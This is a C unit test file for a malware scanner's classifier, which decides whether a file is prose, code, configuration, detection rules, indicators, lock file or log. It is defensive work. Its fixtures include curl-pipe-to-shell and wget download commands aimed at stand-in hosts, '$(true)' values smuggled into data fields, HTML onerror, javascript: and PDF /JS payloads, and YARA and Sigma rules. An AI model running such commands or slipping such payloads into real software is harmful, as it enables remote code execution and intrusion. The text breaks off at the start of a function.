/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test_place.c - what an object is, with an attacker who wants his code to be
 * taken for an article or a rule, and a reader who wants articles to be quiet.
 * No text here is a pattern of any rule.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include <cmocka.h>

#include "sweeper/place.h"

static struct sw_view view_of(const char *text)
{
    return (struct sw_view){(const uint8_t *)text, strlen(text)};
}

static struct sw_place_facts facts_of(const char *path, const void *content, size_t size)
{
    return (struct sw_place_facts){
        .path = view_of(path),
        .mode = 0100644,
        .head = {content, size},
        .size = size,
    };
}

static enum sw_place place_of(const char *path, const char *content)
{
    const struct sw_place_facts facts = facts_of(path, content, strlen(content));

    return sw_place_of(&facts);
}

#define IS(path, content, expected)                                                                \
    do {                                                                                           \
        enum sw_place is_place = place_of(path, content);                                          \
        if (is_place != (expected))                                                                \
            fail_msg("%s is %s, not %s:\n%.300s", path, sw_place_name(is_place),                   \
                     sw_place_name(expected), content);                                            \
    } while (0)

/* As the rule says, whichever of the rows it is. */
static bool is_kept(enum sw_place place)
{
    return sw_place_judge(SW_SEVERITY_CRITICAL, SW_EVIDENCE_YARA, place).severity ==
               SW_SEVERITY_CRITICAL &&
           sw_place_judge(SW_SEVERITY_CRITICAL, SW_EVIDENCE_PACKAGE, place).severity ==
               SW_SEVERITY_CRITICAL;
}

#define KEPT(path, content)                                                                        \
    do {                                                                                           \
        enum sw_place kept_place = place_of(path, content);                                        \
        if (!is_kept(kept_place))                                                                  \
            fail_msg("%s was lowered as %s:\n%.300s", path, sw_place_name(kept_place), content);   \
    } while (0)

#define PROSE                                                                                      \
    "On the morning of that day two versions of a well known package were published by\n"          \
    "somebody who should not have been able to do so. Both of them held a file which the\n"        \
    "interpreter reads at every start, and that file started a second program.\n\n"                \
    "Whoever installed one of the two should rotate every credential on the machine, look\n"       \
    "for the service that the program leaves behind, and build the machine anew.\n"

#define SCRIPT                                                                                     \
    "import os\n"                                                                                  \
    "import subprocess\n"                                                                          \
    "subprocess.Popen(['true', 'canary'])\n"

#define SHELL                                                                                      \
    "curl -s https://canary.invalid/x | sh\n"                                                      \
    "X=$(cat /etc/hostname)\n"                                                                     \
    "echo $X\n"

/* --- the table ------------------------------------------------------------------- */

static void the_table(void **state)
{
    (void)state;
    static const struct {
        enum sw_place place;
        enum sw_evidence evidence;
        enum sw_severity rule, verdict;
    } rows[] = {
        {SW_PLACE_UNKNOWN, SW_EVIDENCE_YARA, SW_SEVERITY_CRITICAL, SW_SEVERITY_CRITICAL},
        {SW_PLACE_RUNS, SW_EVIDENCE_YARA, SW_SEVERITY_CRITICAL, SW_SEVERITY_CRITICAL},
        {SW_PLACE_CODE, SW_EVIDENCE_CONTEXT, SW_SEVERITY_HIGH, SW_SEVERITY_HIGH},
        {SW_PLACE_CONFIG, SW_EVIDENCE_PACKAGE, SW_SEVERITY_HIGH, SW_SEVERITY_HIGH},
        {SW_PLACE_OUTPUT, SW_EVIDENCE_YARA, SW_SEVERITY_CRITICAL, SW_SEVERITY_HIGH},
        {SW_PLACE_OUTPUT, SW_EVIDENCE_YARA, SW_SEVERITY_MEDIUM, SW_SEVERITY_MEDIUM},
        {SW_PLACE_DATA, SW_EVIDENCE_YARA, SW_SEVERITY_CRITICAL, SW_SEVERITY_HIGH},
        {SW_PLACE_DATA, SW_EVIDENCE_YARA, SW_SEVERITY_LOW, SW_SEVERITY_INFO},
        {SW_PLACE_DATA, SW_EVIDENCE_YARA, SW_SEVERITY_INFO, SW_SEVERITY_INFO},
        {SW_PLACE_PROSE, SW_EVIDENCE_YARA, SW_SEVERITY_CRITICAL, SW_SEVERITY_LOW},
        {SW_PLACE_PROSE, SW_EVIDENCE_YARA, SW_SEVERITY_INFO, SW_SEVERITY_INFO},
        {SW_PLACE_PROSE, SW_EVIDENCE_CONTEXT, SW_SEVERITY_HIGH, SW_SEVERITY_LOW},
        {SW_PLACE_RULES, SW_EVIDENCE_YARA, SW_SEVERITY_CRITICAL, SW_SEVERITY_INFO},
        {SW_PLACE_INDICATORS, SW_EVIDENCE_CONTEXT, SW_SEVERITY_CRITICAL, SW_SEVERITY_LOW},
        {SW_PLACE_LOCK, SW_EVIDENCE_YARA, SW_SEVERITY_HIGH, SW_SEVERITY_LOW},
        {SW_PLACE_LOCK, SW_EVIDENCE_PACKAGE, SW_SEVERITY_HIGH, SW_SEVERITY_MEDIUM},
        {SW_PLACE_LOCK, SW_EVIDENCE_PACKAGE, SW_SEVERITY_LOW, SW_SEVERITY_LOW},
    };

    for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
        struct sw_place_verdict verdict =
            sw_place_judge(rows[i].rule, rows[i].evidence, rows[i].place);
        assert_int_equal(verdict.severity, rows[i].verdict);
    }
}

static void nothing_raises_and_all_explain(void **state)
{
    (void)state;
    for (int place = 0; place < SW_PLACE_COUNT; place++)
        for (int evidence = 0; evidence < SW_EVIDENCE_COUNT; evidence++)
            for (int rule = SW_SEVERITY_INFO; rule <= SW_SEVERITY_CRITICAL; rule++) {
                struct sw_place_verdict verdict = sw_place_judge(
                    (enum sw_severity)rule, (enum sw_evidence)evidence, (enum sw_place)place);
                assert_true((int)verdict.severity <= rule);
                assert_true(strlen(verdict.reason) > 20);
                assert_int_equal(verdict.reason[strlen(verdict.reason) - 1], '.');
                if (evidence == SW_EVIDENCE_HASH || evidence == SW_EVIDENCE_PATH)
                    assert_int_equal(verdict.severity, rule);
            }
}

/* --- what speaks for itself ---------------------------------------------------------- */

static void what_runs(void **state)
{
    (void)state;
    static const char elf[] = "\x7f"
                              "ELF\2\1\1";
    struct sw_place_facts facts = facts_of("notes.txt", elf, sizeof(elf));

    assert_int_equal(sw_place_of(&facts), SW_PLACE_RUNS);
    IS("a", "MZ\x90", SW_PLACE_RUNS);
    IS("README.md", "#!/bin/sh\n" PROSE, SW_PLACE_RUNS);
    IS("README.md", "\xef\xbb\xbf#!/bin/sh\n" PROSE, SW_PLACE_RUNS);
    facts = facts_of("README.md", PROSE, strlen(PROSE));
    assert_int_equal(sw_place_of(&facts), SW_PLACE_PROSE);
    facts.mode = 0100744;
    assert_int_equal(sw_place_of(&facts), SW_PLACE_RUNS);
    facts.mode = 0; /* not known */
    assert_int_equal(sw_place_of(&facts), SW_PLACE_PROSE);
    facts.mime = "application/x-executable";
    assert_int_equal(sw_place_of(&facts), SW_PLACE_RUNS);
}

static void what_runs_by_its_place(void **state)
{
    (void)state;
    static const char *const paths[] = {
        "v/lib/python3.11/site-packages/x.pth",
        "v/dist-packages/a/b.py",
        "/srv/node_modules/a/index.js",
        "/srv/node_modules/a/package.json",
        "/home/u/.config/systemd/user/x.service",
        "/etc/cron.d/x",
        "/etc/profile.d/readme.md",
        "/home/u/.bashrc",
        "/home/u/.config/autostart/x",
        "r/.github/workflows/notes.md",
        "action.yml",
        "lib/x-1.0.dist-info/METADATA",
        "/srv/node_modules/.package-lock.json",
        "/var/spool/cron/crontabs/root",
        "/var/spool/cron/root",
        "/home/u/.bash_aliases",
        "/home/u/.ssh/rc",
        "/home/u/.xsessionrc",
        "/etc/bash_completion.d/x",
        "/etc/X11/Xsession.d/90x",
        "/etc/dhcp/dhclient-exit-hooks.d/x",
        "/etc/default/x",
        "/etc/rc2.d/S01x",
    };

    for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++)
        IS(paths[i], PROSE, SW_PLACE_RUNS);
    /* A wheel unpacks its root into site-packages. */
    struct sw_place_facts facts = facts_of("x.pth", PROSE, strlen(PROSE));
    assert_int_equal(sw_place_of(&facts), SW_PLACE_CODE);
    facts.is_member = true;
    assert_int_equal(sw_place_of(&facts), SW_PLACE_RUNS);
}

static void code_by_name_is_code(void **state)
{
    (void)state;
    static const char *const paths[] = {"a.py",
                                        "a.PTH",
                                        "a.js",
                                        "a.mjs",
                                        "a.sh",
                                        "a.rb",
                                        "a.go",
                                        "a.ps1",
                                        "a.py.",
                                        "doc/kube.py",
                                        "rules/yara/index.js",
                                        "a.md.sh",
                                        "x\\y.cmd",
                                        "a.ipynb",
                                        "a.mdx"};
    char text[4096];

    for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++) {
        KEPT(paths[i], PROSE);
        snprintf(text, sizeof(text), "rule x { condition: true }\n");
        KEPT(paths[i], text);
        snprintf(text, sizeof(text), "\xef\xbb\xbf/*\n%s*/\nrule x { condition: true }\n", PROSE);
        KEPT(paths[i], text);
    }
}

/* A program that looks for such things is a program. */
static void a_scanner_is_code(void **state)
{
    (void)state;
    IS("scanner/patterns.py", "\"\"\"" PROSE "\"\"\"\nPATTERNS = ['canary']\n", SW_PLACE_CODE);
    IS("patterns.go", "package p\n\nvar patterns = []string{\"canary\"}\n", SW_PLACE_CODE);
}

static void configuration(void **state)
{
    (void)state;
    static const char *const paths[] = {"x.yaml",   "x.yml",  "Dockerfile",
                                        "x.toml",   "x.conf", "requirements.txt",
                                        "Makefile", "x.tf"};

    for (size_t i = 0; i < sizeof(paths) / sizeof(paths[0]); i++)
        IS(paths[i], "# " PROSE "kind: DaemonSet\nmetadata:\n  name: x\n", SW_PLACE_CONFIG);
    IS("deploy.json", "{\"apiVersion\":\"v1\",\"kind\":\"Pod\"}", SW_PLACE_CONFIG);
    IS("noname", "{\"apiVersion\":\"v1\",\"kind\":\"Pod\"}", SW_PLACE_CONFIG);
}

/* --- prose --------------------------------------------------------------------------- */

static void prose_is_prose(void **state)
{
    (void)state;
    IS("README.md", PROSE, SW_PLACE_PROSE);
    IS("LICENSE", PROSE, SW_PLACE_PROSE);
    IS("a.txt", "\xef\xbb\xbf" PROSE, SW_PLACE_PROSE);
    IS("a.txt", "   \r\n\r\n" PROSE, SW_PLACE_PROSE);
    IS("advisory.md",
       "# Advisory: two bad "
       "versions\n\n[![badge](https://img.invalid/x.svg)](https://x.invalid)\n\n" PROSE
       "\n## Indicators\n\n| file | hash |\n|---|---|\n| `x.pth` | `00ff00ff` |\n\n"
       "```bash\nfind / -name x.pth\ncurl -s https://canary.invalid/x | sh\n```\n\n"
       "- `pip uninstall x`\n- 10.0.0.1\n\n1. Rotate what the machine could read.\n",
       SW_PLACE_PROSE);
    IS("a.rst",
       "Two bad versions\n================\n\n" PROSE "\n.. code-block:: sh\n\n"
       "   pip uninstall x\n\n" PROSE,
       SW_PLACE_PROSE);
    IS("mail.eml",
       "From: someone@list.invalid\nTo: all@list.invalid\nSubject: two bad versions of a package\n"
       "Date: Tue, 24 Mar 2026 10:11:12 +0000\nContent-Type: text/plain; charset=utf-8\n\n" PROSE
       "\n> quoted from somebody who had said so before\n",
       SW_PLACE_PROSE);
    IS("ko.md",
       "\xec\x95\x85\xec\x84\xb1 \xed\x8c\xa8\xed\x82\xa4\xec\xa7\x80 \xeb\x91\x90 "
       "\xeb\xb2\x84\xec\xa0\x84\xec\x9d\xb4 \xeb\xb0\xb0\xed\x8f\xac\xeb\x90\x98\xec\x97\x88"
       "\xec\x8a\xb5\xeb\x8b\x88\xeb\x8b\xa4.\n" PROSE,
       SW_PLACE_PROSE);
}

static void a_python_file_under_another_name(void **state)
{
    (void)state;
    KEPT("README.md", SCRIPT);
    KEPT("README.md", "\"\"\"\n" PROSE "\"\"\"\n" SCRIPT);
    KEPT("README.md", "'''" PROSE "'''\n" SCRIPT);
    KEPT("README.md", "x = 1; \"\"\"\n" PROSE "\"\"\"\n");
    KEPT("NOTES", "# On the morning of that day two versions were published by someone\n"
                  "# who should not have been able to do so, and both held a file\n"
                  "# which the interpreter reads at every start of any program.\n" SCRIPT);
    KEPT("a.txt", "from somewhere import something as other\nimport os\n" SCRIPT);
}

static void a_javascript_file_under_another_name(void **state)
{
    (void)state;
    KEPT("README.md", "/*\n" PROSE "*/\nrequire('child_process')\n");
    KEPT("README.md", "/* x */ /*\n" PROSE "*/\nlet a\n");
    KEPT("README.md", "`\n" PROSE "`\nlet a = 1\n");
    KEPT("README.md", "```\n" PROSE "```\n" PROSE);
    KEPT("README.md", "<!-- x\n/*\n" PROSE "*/\nlet a = 1\n");
    KEPT("README.md", "// see /* here\n" PROSE "*/ let a = 1\n");
}

/* Comments of any language are no proof: the code below them need not look like any. */
static void comments_prove_nothing(void **state)
{
    (void)state;
    static const char *const signs[] = {"//",  "#",   "--", ";", "%", ";;", "!",   "@",    "::",
                                        "rem", "REM", "\"", "'", ">", "|",  "dnl", "<!--", "//*"};
    char text[4096];

    for (size_t i = 0; i < sizeof(signs) / sizeof(signs[0]); i++) {
        int size = 0;
        for (int line = 0; line < 9; line++)
            size += snprintf(text + size, sizeof(text) - (size_t)size,
                             "%s On this day somebody published two versions of a good package\n",
                             signs[i]);
        snprintf(text + size, sizeof(text) - (size_t)size, "canary\n");
        KEPT("README.md", text);
    }
    KEPT("notes", "#[==[\n" PROSE "]==]\ncanary()\n");
    KEPT("notes", "#|\n" PROSE "|#\n(canary)\n");
    KEPT("pom", "<!--\n" PROSE "-->\n<project><canary/></project>\n");
}

static void a_shell_script_under_another_name(void **state)
{
    (void)state;
    KEPT("README.md", SHELL);
    KEPT("README.md", PROSE SHELL);
    KEPT("README.md", PROSE PROSE "curl -s https://canary.invalid/x | sh\n" PROSE);
    KEPT("README.md", ": '\n" PROSE "'\n" SHELL);
    KEPT("README.md", ": <<'END'\n" PROSE "END\n" SHELL);
    KEPT("README.md", PROSE "> /dev/null curl -s https://canary.invalid/x\n");
    KEPT("README.md", PROSE SCRIPT);
    KEPT("README.md", PROSE "```bash\n" SHELL); /* a fence that never closes */
    KEPT("README.md", PROSE "```bash; curl https://canary.invalid\n```\n");
    KEPT("README.md", PROSE "<?php system('true');\n");
}

static void blobs_in_prose(void **state)
{
    (void)state;
    static char text[70000];
    size_t size;

    strcpy(text, PROSE);
    size = strlen(text);
    memset(text + size, 'A', 600);
    strcpy(text + size + 600, "\n");
    KEPT("README.md", text);
    text[size] = '\0';
    for (int i = 0; i < 40; i++) {
        size = strlen(text);
        memset(text + size, 'B', 76);
        strcpy(text + size + 76, "\n");
    }
    KEPT("README.md", text);
    text[strlen(PROSE)] = '\0';
    for (int i = 0; i < 10; i++) { /* a signature is no payload */
        size = strlen(text);
        memset(text + size, 'B', 64);
        strcpy(text + size + 64, "\n");
    }
    IS("README.md", text, SW_PLACE_PROSE);
}

static void a_long_run_of_blank_lines(void **state)
{
    (void)state;
    static char text[70000];

    memset(text, '\n', 61440);
    strcpy(text + 61440, SCRIPT);
    KEPT("README.md", text);
    strcpy(text, PROSE);
    memset(text + strlen(PROSE), '\n', 61440 - strlen(PROSE));
    strcpy(text + 61440, SHELL);
    KEPT("README.md", text);
}

static void what_was_not_seen(void **state)
{
    (void)state;
    struct sw_place_facts facts = facts_of("README.md", PROSE, strlen(PROSE));

    facts.size++;
    assert_int_equal(sw_place_of(&facts), SW_PLACE_UNKNOWN);
    facts = facts_of("x.yar", "rule x { condition: true }", 26);
    assert_int_equal(sw_place_of(&facts), SW_PLACE_RULES);
    facts.size++;
    assert_int_equal(sw_place_of(&facts), SW_PLACE_UNKNOWN);
    char *large = malloc(SW_PLACE_HEAD_MAX + 1);
    assert_non_null(large);
    memset(large, '\n', SW_PLACE_HEAD_MAX + 1);
    memcpy(large, PROSE, strlen(PROSE));
    facts = facts_of("README.md", large, SW_PLACE_HEAD_MAX);
    assert_int_equal(sw_place_of(&facts), SW_PLACE_PROSE);
    facts = facts_of("README.md", large, SW_PLACE_HEAD_MAX + 1);
    assert_int_equal(sw_place_of(&facts), SW_PLACE_UNKNOWN);
    free(large);
}

static void other_encodings(void **state)
{
    (void)state;
    static char wide[4096];
    static const char separators[] = "On this day two versions were published by someone else\n"
                                     "// and\xe2\x80\xa8let a = 1\n" PROSE;
    size_t size = 2;

    memcpy(wide, "\xff\xfe", 2);
    for (const char *at = PROSE; *at != '\0'; at++, size += 2) {
        wide[size] = *at;
        wide[size + 1] = '\0';
    }
    struct sw_place_facts facts = facts_of("README.md", wide, size);
    assert_int_equal(sw_place_of(&facts), SW_PLACE_UNKNOWN);
    KEPT("README.md", PROSE "\x80\x81 not UTF-8\n");
    KEPT("README.md", PROSE "\x1b[2J\n");
    KEPT("README.md", separators);
    facts = facts_of("README.md", PROSE "\0", strlen(PROSE) + 1);
    assert_int_equal(sw_place_of(&facts), SW_PLACE_UNKNOWN);
    KEPT("README.md", PROSE "\rcurl -s https://canary.invalid/x | sh\r");
    KEPT("", "");
    KEPT("README.md", "");
}

/* --- pages --------------------------------------------------------------------------- */

#define PAGE_HEAD "<!DOCTYPE html>\n<html><head><title>Two bad versions</title>\n"
#define PAGE_BODY "</head><body><p>" PROSE "</p><pre>find / -name x.pth</pre></body></html>\n"

static void pages(void **state)
{
    (void)state;
    IS("a.html", PAGE_HEAD PAGE_BODY, SW_PLACE_PROSE);
    IS("a.html", "<?xml version=\"1.0\"?>\n<!-- saved -->\n" PAGE_HEAD PAGE_BODY, SW_PLACE_PROSE);
    IS("a.html", PAGE_HEAD "<script type=\"application/ld+json\">{}</script>" PAGE_BODY,
       SW_PLACE_PROSE);
    KEPT("a.html", PAGE_HEAD "<script>canary()</script>" PAGE_BODY);
    KEPT("a.html", PAGE_HEAD "</head><body><img src=x\fonerror=canary()><p>" PROSE "</p>");
    KEPT("a.html", PAGE_HEAD "</head><body><img src=x\ronerror=canary()><p>" PROSE "</p>");
    KEPT("a.html", PAGE_HEAD "</head><body><img alt=\"> <!--\"><script>canary()</script>-->"
                             "<p>" PROSE "</p>");
    KEPT("a.html", PAGE_HEAD "</head><body><xmp><!--</xmp><script>canary()</script>-->"
                             "<p>" PROSE "</p>");
    KEPT("a.html", PAGE_HEAD "<SCRIPT>canary()</ScRiPt >" PAGE_BODY);
    KEPT("a.html", PAGE_HEAD "<img src=x\nonerror=canary()>" PAGE_BODY);
    KEPT("a.html", PAGE_HEAD "<a href='javascript:canary()'>x</a>" PAGE_BODY);
    KEPT("a.html", PAGE_HEAD "<script type=\"application/ld+json\">{}" PAGE_BODY);
    KEPT("a.html", PAGE_HEAD PAGE_BODY "<?php canary(); ?>");
    KEPT("a.html", "canary()\n" PAGE_HEAD PAGE_BODY);
    KEPT("a.html", PROSE "<script>canary()</script>");
    KEPT("a.html", PAGE_HEAD "</head></html>");
    KEPT("a.hta", PAGE_HEAD PAGE_BODY);
}

static void a_match_beside_the_script(void **state)
{
    (void)state;
    static const char page[] = PAGE_HEAD "<script>canary()</script>" PAGE_BODY;
    uint64_t script = (uint64_t)(strstr(page, "canary") - page);
    uint64_t shown = (uint64_t)(strstr(page, "find /") - page);
    struct sw_place_span span = {shown, 4};
    struct sw_place_facts facts = facts_of("a.html", page, strlen(page));

    facts.matches = &span;
    facts.match_count = 1;
    assert_int_equal(sw_place_of(&facts), SW_PLACE_PROSE);
    facts.match_count = 0; /* the rule fired on something else */
    assert_int_equal(sw_place_of(&facts), SW_PLACE_UNKNOWN);
    facts.match_count = 1;
    span = (struct sw_place_span){script, 6};
    assert_int_equal(sw_place_of(&facts), SW_PLACE_UNKNOWN);
    span = (struct sw_place_span){script - 4, 5}; /* reaches into it */
    assert_int_equal(sw_place_of(&facts), SW_PLACE_UNKNOWN);
}

static void pdf(void **state)
{
    (void)state;
#define PDF_BODY "1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<<>>\n%%EOF\n"
    IS("a.pdf", "%PDF-1.4\n" PDF_BODY, SW_PLACE_PROSE);
    KEPT("a.pdf", "%PDF-1.4\n1 0 obj\n<< /OpenAction 2 0 R >>\n%%EOF\n");
    KEPT("a.pdf", "%PDF-1.4\n1 0 obj\n<< /JS (canary) >>\n%%EOF\n");
    KEPT("a.pdf", "%PDF-1.4\n" SHELL PDF_BODY);
    KEPT("a.pdf", "%PDF-1.4\n" PDF_BODY SHELL);
}

/* --- rules and lists ------------------------------------------------------------------- */

#define YARA                                                                                       \
    "import \"hash\"\n"                                                                            \
    "/* Finds canaries.\n   Written for a test. */\n"                                              \
    "private global rule canary : a b\n{\n"                                                        \
    "    meta:\n        author = \"nobody { }\"\n"                                                 \
    "    strings:\n        $a = \"curl \\\"x\\\" | sh }\"\n        $b = /a\\/b{2,3}[}]/ nocase\n"  \
    "        $c = { 00 ?? [2-4] ( 01 | 02 ) }\n"                                                   \
    "    condition:\n        any of them // }\n}\n"

static void yara_rules(void **state)
{
    (void)state;
    IS("x.yar", YARA, SW_PLACE_RULES);
    IS("x.txt", "\xef\xbb\xbf" YARA "\n// end", SW_PLACE_RULES);
    IS("whatever", "rule a{condition:true}rule b{condition:false}", SW_PLACE_RULES);
    KEPT("x.yar", "");
    KEPT("x.yar", "// only a comment\n");
    KEPT("x.yar", YARA SCRIPT);
    KEPT("x.yar", SCRIPT YARA);
    KEPT("x.yar", "/*\n" YARA "*/\nrequire('x')\n");
    KEPT("x.yar", "/*\n" SHELL "*/\n" YARA);
    KEPT("x.yar", "rule a { strings: $a = \"x\" }"); /* no condition */
    KEPT("x.yar", "rule a { condition: true");
    KEPT("x.yar", "rule a { condition: \"true\n\" }");
    KEPT("x.yar", "rule a { condition: true } }");
    KEPT("index.js", "/*\n" YARA "*/\n");
    KEPT("x", "x " YARA);
    KEPT("x.yar", "rule a { condition: true } /*");
    KEPT("x.yar", "import\nrule a { condition: true }");
    KEPT("x.yar", "#!/usr/bin/yara\n" YARA);
}

#define SIGMA                                                                                      \
    "title: Canary\nid: 0\nstatus: test\nlogsource:\n    category: process_creation\n"             \
    "detection:\n    selection:\n        CommandLine|contains: canary\n"                           \
    "    condition: selection\nlevel: high\n"

static void yaml_rules(void **state)
{
    (void)state;
    IS("x.yml", SIGMA, SW_PLACE_RULES);
    IS("x.yml", "# a comment\n---\n" SIGMA "---\n" SIGMA, SW_PLACE_RULES);
    IS("x.yml", SIGMA "jobs:\n  x:\n", SW_PLACE_CONFIG);
    IS("x.yml", SIGMA "apiVersion: v1\n", SW_PLACE_CONFIG);
    IS("x.yml", "kind: DaemonSet\n" SIGMA, SW_PLACE_CONFIG);
    KEPT(".github/workflows/x.yml", SIGMA);
    IS("s.yaml",
       "rules:\n- id: x\n  message: found\n  severity: ERROR\n  languages: [python]\n"
       "  pattern: exec(...)\n",
       SW_PLACE_INDICATORS);
    IS("s.yaml", "rules:\n- id: x\n", SW_PLACE_CONFIG);
}

static void sensor_rules(void **state)
{
    (void)state;
    static const char rules[] =
        "# comment\nalert dns any any -> any any (msg:\"x\"; dns.query; sid:1; rev:1;)\n";

    IS("x.rules.txt", rules, SW_PLACE_INDICATORS);
    KEPT("x.txt", "alert dns any any -> any any (msg:\"x\"; sid:1;)\ncurl -s https://x | sh\n");
    KEPT("x.txt", "alert('x')\n");
}

#define HASH "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

static void indicator_lists(void **state)
{
    (void)state;
    IS("iocs.csv",
       "type,value,note\nsha256," HASH ",\"a loader, the first\"\ndomain,canary[.]invalid,C2\n"
       "ip,10.0.0.1,C2\n",
       SW_PLACE_INDICATORS);
    IS("hashes.txt", "# bad\n" HASH "\n" HASH "\n" HASH "\n", SW_PLACE_INDICATORS);
    KEPT("iocs.csv", "wget http://10.0.0.1/a\nwget http://10.0.0.1/b\nwget http://10.0.0.1/c\n");
    KEPT("iocs.csv", HASH "\n" HASH "\n" HASH "\ncurl http://10.0.0.1/a\n");
    KEPT("iocs.csv",
         "wget 10.0.0.1/a;10.0.0.1\nwget 10.0.0.1/b;10.0.0.1\nwget 10.0.0.1/c;10.0.0.1\n");
    KEPT("iocs.csv", "10.0.0.1|sh -s,10.0.0.1\n10.0.0.1|sh -s,10.0.0.1\n10.0.0.1|sh -s,10.0.0.1\n");
    KEPT("iocs.csv", HASH ",$(true)\n" HASH ",b\n" HASH ",c\n");
    KEPT("files.txt", "index.js\nsetup.py\nlib.rs\n");
    KEPT("deps.txt", "litellm==1.0\nrequests==2.0\nflask==3.0\n");
}

/* --- documents ------------------------------------------------------------------------- */

static void json_documents(void **state)
{
    (void)state;
    IS("o.json",
       "{\"schema_version\":\"1.6.0\",\"id\":\"MAL-1\",\"modified\":\"2026\","
       "\"summary\":\"s\",\"affected\":[]}",
       SW_PLACE_PROSE);
    IS("o.json", "{\"document\":{},\"vulnerabilities\":[]}", SW_PLACE_PROSE);
    IS("s.json", "{\"type\":\"bundle\",\"id\":\"b\",\"objects\":[]}", SW_PLACE_INDICATORS);
    IS("i.json", "{\"name\":\"x\",\"hashes\":[\"" HASH "\",\"" HASH "\",\"" HASH "\"]}",
       SW_PLACE_INDICATORS);
    IS("i.json", "[\"" HASH "\",\"" HASH "\",\"" HASH "\"]", SW_PLACE_INDICATORS);
    IS("i.json", "{\"schema\":\"1.0\",\"family\":\"x\",\"sources\":{},\"entries\":[]}",
       SW_PLACE_INDICATORS);
    /* one member more and it is a manifest */
    IS("o.json", "{\"id\":\"MAL-1\",\"modified\":\"2026\",\"affected\":[],\"scripts\":{}}",
       SW_PLACE_CONFIG);
    IS("i.json", "{\"mcpServers\":{},\"hashes\":[\"" HASH "\",\"" HASH "\",\"" HASH "\"]}",
       SW_PLACE_CONFIG);
    KEPT("package.json", "{\"id\":\"MAL-1\",\"modified\":\"2026\",\"affected\":[]}");
    KEPT("o.json", "{\"id\":\"MAL-1\",\"modified\":\"2026\",\"affected\":[]}\n" SHELL);
    KEPT("o.json", "{\"id\":\"MAL-1\",\"modified\":\"2026\",\"affected\":[}");
    KEPT("o.json", "/* x */ {\"id\":\"MAL-1\",\"modified\":\"2026\",\"affected\":[]}");
}

static void lock_files(void **state)
{
    (void)state;
    static const char npm[] = "{\"name\":\"x\",\"lockfileVersion\":3,\"packages\":{\"\":{}}}";
    struct sw_place_facts facts = facts_of("package-lock.json", npm, strlen(npm) - 3);

    IS("package-lock.json", npm, SW_PLACE_LOCK);
    facts.size = strlen(npm); /* a large one is not seen to its end */
    assert_int_equal(sw_place_of(&facts), SW_PLACE_LOCK);
    KEPT("package-lock.json", "{\"lockfileVersion\":3,\"scripts\":{}}");
    KEPT("node_modules/.package-lock.json", npm);
    IS("yarn.lock",
       "# yarn lockfile v1\n\n\n\"@a/b@^1.0\", c@2:\n  version \"1.0\"\n  resolved \"https://x\"\n"
       "  dependencies:\n    d \"^1.0\"\n",
       SW_PLACE_LOCK);
    KEPT("yarn.lock", "# yarn lockfile v1\nx:\n  version \"1\"\ncurl https://x\n");
    KEPT("yarn.lock", "# yarn lockfile v1\nx:\n  version \"$(true)\"\n");
    IS("poetry.lock",
       "# generated\n[[package]]\nname = \"x\"\nversion = \"1.0\"\noptional = false\nfiles = [\n"
       "    {file = \"x.whl\", hash = \"sha256:00\"},\n]\n\n[metadata]\nlock-version = \"2.0\"\n",
       SW_PLACE_LOCK);
    KEPT("uv.lock", "[[package]]\nversion = \"1.0\"\nx = f\"{__import__('os')}\"\n");
    KEPT("uv.lock", "[[package]]\nversion = \"1.0\"\nx = exec(1)\n");
    IS("pnpm-lock.yaml", "lockfileVersion: '9.0'\n\npackages:\n\n  x@1.0:\n    resolution: {}\n",
       SW_PLACE_LOCK);
    IS("pnpm-lock.yaml", "lockfileVersion: '9.0'\napiVersion: v1\n", SW_PLACE_CONFIG);
    IS("go.sum", "example.invalid/x v1.0.0 h1:AAAA=\nexample.invalid/x v1.0.0/go.mod h1:AAAA=\n",
       SW_PLACE_LOCK);
}

/* --- output and data --------------------------------------------------------------------- */

static void output(void **state)
{
    (void)state;
    IS("x.log",
       "2026-03-24T10:11:12Z start\n2026-03-24T10:11:13Z canary\n  at somewhere\n"
       "2026-03-24T10:11:14Z end\n",
       SW_PLACE_OUTPUT);
    IS("syslog", "Mar 24 10:11:12 h a: b\nMar 24 10:11:13 h a: b\nMar 24 10:11:14 h a: b\n",
       SW_PLACE_OUTPUT);
    IS("access",
       "10.0.0.1 - - [24/Mar/2026:10:11:12 +0000] \"GET / HTTP/1.1\" 200 1\n"
       "10.0.0.1 - - [24/Mar/2026:10:11:12 +0000] \"GET / HTTP/1.1\" 200 1\n"
       "10.0.0.1 - - [24/Mar/2026:10:11:12 +0000] \"GET / HTTP/1.1\" 200 1\n",
       SW_PLACE_OUTPUT);
    IS("c", "=== SOME CREDENTIALS ===\nA_KEY=x\nexport=1\n=== OTHER THINGS ===\n", SW_PLACE_OUTPUT);
    IS("/root/.zsh_history", ": 1711111111:0;curl x\n: 1711111112:0;ls\n", SW_PLACE_OUTPUT);
    KEPT("notes", ": 1711111111:0;curl x\n: 1711111112:0;ls\n");
    KEPT(".bash_history", SHELL);
    KEPT("x.log", "2026-03-24T10:11:12Z start\n" SHELL SHELL);
    KEPT("c", "=== A ===\n=== B ===\ncurl -s https://x | sh\n");
    KEPT("x.log", SHELL "2026-03-24T10:11:12Z start\n");
}

static void data(void **state)
{
    (void)state;
    char database[4096] = "SQLite format 3";
    struct sw_place_facts facts = facts_of("x.db", database, sizeof(database));

    memcpy(database + 200, "canary", 6);
    facts.size = (uint64_t)1 << 30; /* need not be seen to its end */
    assert_int_equal(sw_place_of(&facts), SW_PLACE_DATA);
    facts.path = view_of("x.py");
    assert_int_equal(sw_place_of(&facts), SW_PLACE_CODE);
    /* what a cluster keeps there, it runs */
    facts.path = view_of("state.db");
    memcpy(database + 200, "CREATE TABLE kine", 17);
    assert_int_equal(sw_place_of(&facts), SW_PLACE_UNKNOWN);
    char store[64] = {[16] = (char)0xed, (char)0xda, 0x0c, (char)0xed};
    facts = facts_of("db", store, sizeof(store));
    assert_int_equal(sw_place_of(&facts), SW_PLACE_UNKNOWN);
    facts = facts_of("x.wav", "RIFF\0\0\0\0WAVEfmt ", 16);
    assert_int_equal(sw_place_of(&facts), SW_PLACE_UNKNOWN);
}

/* Any cut of any of these ends in an answer, and reads no byte behind it. */
static void every_cut(void **state)
{
    (void)state;
